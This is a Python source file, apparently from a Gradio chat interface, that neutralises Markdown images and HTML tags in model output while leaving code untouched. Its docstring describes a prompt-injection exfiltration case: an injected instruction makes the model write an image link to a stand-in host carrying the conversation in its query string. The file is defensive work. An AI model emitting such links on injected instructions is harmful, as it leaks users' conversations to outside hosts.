"""Markdown from a model, made inert before the page renders it.

The page renders replies as Markdown, and the browser fetches whatever an image in
them names, the moment it is drawn: a document or tool result that tells the model
to write ``![](https://example.com/?q=<the conversation>)`` would send the chat to
that address without a click. Gradio's sanitizer keeps scripts out but lets images
and other tags through. So, outside code (fenced blocks and code spans, which show
their text as it is), an image is shown as the text that names it (``!\\[``), and a
``<`` that would open an HTML tag or an autolink is escaped. The rest of Markdown
(emphasis, lists, tables, links a user may follow or not, code) renders as before.
"""

from __future__ import annotations

import re

FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
CODE_SPAN = re.compile(r"(`+)(?:.|\n)*?(?<!`)\1(?!`)")
IMAGE_OR_TAG = re.compile(r"!\[|<(?=[A-Za-z/!?])")


def inert(text: str) -> str:
    """``text`` with no image and no HTML tag left to render, code untouched."""
    out: list[str] = []
    fence = ""
    prose: list[str] = []
    for line in text.splitlines(keepends=True):
        opening = FENCE.match(line)
        if fence:  # inside a fenced block: as it is, up to its closing fence
            out.append(line)
            if opening and opening.group(1)[0] == fence[0] and len(opening.group(1)) >= len(fence):
                fence = ""
        elif opening:
            out.append(_prose("".join(prose)))
            prose = []
            out.append(line)
            fence = opening.group(1)
        else:
            prose.append(line)
    out.append(_prose("".join(prose)))
    return "".join(out)


def _prose(text: str) -> str:
    """Escape images and tags in ``text``, outside its code spans."""
    pieces, start = [], 0
    for span in CODE_SPAN.finditer(text):
        pieces.append(_escape(text[start : span.start()]))
        pieces.append(span.group())
        start = span.end()
    pieces.append(_escape(text[start:]))
    return "".join(pieces)


def _escape(text: str) -> str:
    return IMAGE_OR_TAG.sub(lambda found: "!\\[" if found.group() == "![" else "\\<", text)
